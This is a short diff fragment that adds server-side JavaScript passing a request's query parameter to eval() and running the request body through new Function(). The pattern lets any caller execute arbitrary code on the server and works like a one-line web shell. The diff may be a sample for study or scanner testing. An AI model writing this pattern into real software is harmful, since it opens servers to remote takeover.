@@ -1,0 +1,3 @@
+eval(req.query.code);
+const body = req.body.script;
+new Function(body)();
